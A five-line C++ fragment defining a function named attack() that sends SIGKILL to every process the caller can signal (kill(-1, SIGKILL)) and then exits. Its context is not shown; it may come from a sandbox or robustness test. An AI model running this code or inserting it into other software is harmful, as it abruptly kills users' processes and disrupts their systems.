// Kills all that it may kill.
static void attack() {
    ::kill(-1, SIGKILL);
    ::_exit(0);
}
